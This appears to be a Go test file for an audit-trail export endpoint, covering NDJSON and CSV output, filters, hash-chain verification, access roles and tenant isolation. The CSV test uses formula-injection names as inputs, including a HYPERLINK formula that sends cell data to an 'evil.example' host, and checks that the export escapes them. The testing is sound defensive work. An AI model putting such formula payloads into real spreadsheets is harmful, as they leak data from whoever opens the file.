package app_test

import (
	"bufio"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"apikeys/ent/audit"
)

func (c *client) get(path string) *response {
	c.t.Helper()
	req, _ := http.NewRequest(http.MethodGet, c.s.srv.URL+path, nil)
	if c.key != "" {
		req.Header.Set("Authorization", "Bearer "+c.key)
	}
	return c.do(req)
}

// exportLines reads an NDJSON export, failing on anything but 200 and one entry a line.
func (c *client) exportLines(query string) []audit.Line {
	c.t.Helper()
	r := c.get("/audit/export?" + query)
	if r.Status != http.StatusOK || r.Header.Get("Content-Type") != "application/x-ndjson; charset=utf-8" {
		c.t.Fatalf("export %s: HTTP %d %s: %s", query, r.Status, r.Header.Get("Content-Type"), r.Body)
	}
	var lines []audit.Line
	sc := bufio.NewScanner(strings.NewReader(r.Body))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var l audit.Line
		if err := json.Unmarshal(sc.Bytes(), &l); err != nil {
			c.t.Fatalf("line %q: %v", sc.Text(), err)
		}
		lines = append(lines, l)
	}
	return lines
}

// The NDJSON export: a dated attachment, every entry in sequence order with its chain
// fields and, for admin people, where it came from; it verifies offline; the export is
// itself recorded, with its filter, and is the file's last line.
func TestTheAuditTrailExportsAsNDJSON(t *testing.T) {
	each(t, func(t *testing.T, s *server) {
		acme := s.newTenant("Acme")
		k := acme.admin.createKey("Ledger", "VIEWER")
		acme.admin.must(nil, `mutation($id: ID!) { revokeAPIKey(input: {id: $id}) { apiKey { id } } }`, map[string]any{"id": k.ID})
		s.newTenant("Globex").admin.createKey("Not Acme's", "VIEWER")

		r := acme.admin.get("/audit/export?format=ndjson")
		want := `attachment; filename="audit-trail-` + time.Now().UTC().Format(time.DateOnly) + `.ndjson"`
		if got := r.Header.Get("Content-Disposition"); got != want {
			t.Fatalf("Content-Disposition %q, want %q", got, want)
		}
		if r.Header.Get("Cache-Control") != "no-store" {
			t.Fatalf("Cache-Control %q", r.Header.Get("Cache-Control"))
		}
		v, err := audit.VerifyFile(strings.NewReader(r.Body))
		if err != nil || !v.OK || v.Gaps != 0 || v.Withheld != 0 || v.EntriesChecked != 6 {
			t.Fatalf("the export verifies: %+v %v", v, err)
		}
		lines := acme.admin.exportLines("")
		for i, l := range lines {
			if l.Sequence != int64(i+1) || l.OrganizationID != string(acme.org.ID) || l.IP == nil || l.UserAgent == nil {
				t.Fatalf("line %d: %+v", i+1, l)
			}
		}
		last := lines[len(lines)-1]
		if last.Action != "AUDIT_EXPORTED" || last.ActorName != "Acme Admin" || string(last.Metadata) != `{"format":"ndjson"}` {
			t.Fatalf("the last line is %+v %s, want the export itself", last, last.Metadata)
		}
		if acme.admin.verify().HeadSequence != 7 {
			t.Fatal("the trail does not hold both exports")
		}

		// Filters: several actions, the target, a day range; the export records them.
		got := acme.admin.exportLines("action=API_KEY_CREATED&action=API_KEY_REVOKED&target=" + k.ID +
			"&from=" + time.Now().UTC().Format(time.DateOnly) + "&to=" + time.Now().UTC().Format(time.DateOnly))
		if len(got) != 2 || got[0].Action != "API_KEY_CREATED" || got[1].Action != "API_KEY_REVOKED" {
			t.Fatalf("filtered export: %+v", got)
		}
		if v, err := audit.VerifyFile(strings.NewReader(linesText(got))); err != nil || !v.OK || v.Gaps != 1 {
			t.Fatalf("a filtered export verifies with its gap: %+v %v", v, err)
		}
		recorded := acme.admin.exportLines("action=AUDIT_EXPORTED")
		var meta map[string]any
		_ = json.Unmarshal(recorded[2].Metadata, &meta)
		filter, _ := meta["filter"].(map[string]any)
		if filter["target"] != k.ID || fmt.Sprint(filter["action"]) != "[API_KEY_CREATED API_KEY_REVOKED]" || filter["from"] == nil {
			t.Fatalf("the export's entry: %s", recorded[2].Metadata)
		}
		if got := acme.admin.exportLines("actor=" + *lines[2].ActorID + "&action=USER_SIGNED_IN"); len(got) != 1 {
			t.Fatalf("by actor: %+v", got)
		}
		if got := acme.admin.exportLines("to=2020-01-01"); len(got) != 0 {
			t.Fatalf("before the company existed: %+v", got)
		}
	})
}

func linesText(ls []audit.Line) string {
	var b strings.Builder
	for _, l := range ls {
		j, _ := json.Marshal(l)
		b.Write(j)
		b.WriteByte('\n')
	}
	return b.String()
}

// The CSV export: a header row and RFC 4180 quoting, so that names with commas and
// quotes come back whole from a CSV reader (names cannot hold new lines; metadata's JSON
// has quotes and commas in every row); and no cell that a spreadsheet would run as a
// formula.
func TestTheAuditTrailExportsAsCSV(t *testing.T) {
	each(t, func(t *testing.T, s *server) {
		acme := s.newTenant("Acme")
		names := []string{
			`Payroll, "EU" export`,
			`=HYPERLINK("https://evil.example/?"&A1,"Click")`,
			"+1 (555) 010-9999",
			"-2+3",
			"@SUM(1,2)",
			"Склад · 倉庫 · مستودع",
		}
		for _, n := range names {
			acme.admin.createKey(n, "VIEWER")
		}
		r := acme.admin.get("/audit/export?format=csv&action=API_KEY_CREATED")
		if r.Status != http.StatusOK || r.Header.Get("Content-Type") != "text/csv; charset=utf-8; header=present" ||
			!strings.HasSuffix(r.Header.Get("Content-Disposition"), `.csv"`) {
			t.Fatalf("HTTP %d %v", r.Status, r.Header)
		}
		if !strings.Contains(r.Body, "\r\n") {
			t.Fatal("RFC 4180 ends records with CRLF")
		}
		rows, err := csv.NewReader(strings.NewReader(r.Body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if strings.Join(rows[0], ",") != "sequence,time,action,actorKind,actorId,actorName,targetKind,targetId,targetName,metadata,ip,userAgent,previousHash,hash" {
			t.Fatalf("header %v", rows[0])
		}
		if len(rows) != 1+len(names) {
			t.Fatalf("%d rows, want %d", len(rows), 1+len(names))
		}
		for i, n := range names {
			got := rows[1+i][8]
			want := n
			if strings.ContainsAny(n[:1], "=+-@") {
				want = "'" + n
			}
			if got != want {
				t.Errorf("target name %q, want %q", got, want)
			}
			for j, cell := range rows[1+i] {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
					t.Errorf("row %d cell %d starts a formula: %q", i+1, j, cell)
				}
			}
		}
	})
}

// Who may export: admin people by cookie (everything), ADMIN keys by Bearer (the key
// events, without addresses: what auditEntries shows them); VIEWER keys, MEMBER people
// and strangers are refused before any byte of the trail; bad parameters are named.
func TestWhoMayExportTheAuditTrail(t *testing.T) {
	each(t, func(t *testing.T, s *server) {
		acme := s.newTenant("Acme")
		acme.admin.createKey("Billing", "VIEWER")
		admin := s.integration(acme.admin.createKey("Exporter", "ADMIN").Secret)
		lines := admin.exportLines("format=ndjson")
		if len(lines) != 2 {
			t.Fatalf("an ADMIN key exported %d entries, want its 2 key events", len(lines))
		}
		for _, l := range lines {
			if l.TargetKind != "API_KEY" || l.IP != nil || l.UserAgent != nil {
				t.Fatalf("an ADMIN key's export holds %+v", l)
			}
		}
		raw := admin.get("/audit/export").Body
		if strings.Contains(raw, `"ip"`) || strings.Contains(raw, "userAgent") {
			t.Fatalf("addresses in an ADMIN key's export: %s", raw)
		}
		if v, err := audit.VerifyFile(strings.NewReader(raw)); err != nil || !v.OK || v.Withheld != 2 {
			t.Fatalf("an ADMIN key's export verifies its links: %+v %v", v, err)
		}

		viewerKey := s.integration(acme.admin.createKey("Reader", "VIEWER").Secret)
		expectCode(t, viewerKey.get("/audit/export"), http.StatusForbidden, "FORBIDDEN")
		acme.admin.must(nil, `mutation { createUser(input: {name: "Mia Member", email: "mia@example.com", password: "member password 1"}) { user { id } } }`, nil)
		member := s.browser()
		member.login("mia@example.com", "member password 1")
		expectCode(t, member.get("/audit/export"), http.StatusForbidden, "FORBIDDEN")
		expectCode(t, s.browser().get("/audit/export"), http.StatusUnauthorized, "UNAUTHENTICATED")

		for q, field := range map[string]string{
			"format=xlsx":                   "format",
			"action=API_KEY_DELETED":        "action",
			"from=yesterday":                "from",
			"to=2026-13-01":                 "to",
			"from=2026-12-02&to=2026-12-01": "to",
		} {
			r := acme.admin.get("/audit/export?" + q)
			expectCode(t, r, http.StatusBadRequest, "BAD_USER_INPUT")
			if r.Errors[0].Extensions["field"] != field {
				t.Errorf("%s: field %v, want %s", q, r.Errors[0].Extensions["field"], field)
			}
		}
		// Refusals are not exports.
		if n := len(acme.admin.exportLines("action=AUDIT_EXPORTED")); n != 3 {
			t.Fatalf("%d exports recorded, want 3 (two by the key, this one)", n)
		}
	})
}

// An export never holds another company's entries, whatever the filter names.
func TestAnExportNeverHoldsAnotherCompanysEntries(t *testing.T) {
	each(t, func(t *testing.T, s *server) {
		acme, globex := s.newTenant("Acme"), s.newTenant("Globex")
		k := acme.admin.createKey("Busy", "VIEWER")
		if got := globex.admin.exportLines("target=" + url.QueryEscape(k.ID)); len(got) != 0 {
			t.Fatalf("Globex exported Acme's entries: %+v", got)
		}
		signIn := acme.admin.exportLines("action=USER_SIGNED_IN")[0]
		if got := globex.admin.exportLines("actor=" + url.QueryEscape(*signIn.ActorID)); len(got) != 0 {
			t.Fatalf("Globex exported Acme's entries by actor: %+v", got)
		}
		if regexp.MustCompile(`Busy|Acme`).MatchString(globex.admin.get("/audit/export?format=csv").Body) {
			t.Fatal("Acme's entries in Globex's export")
		}
	})
}
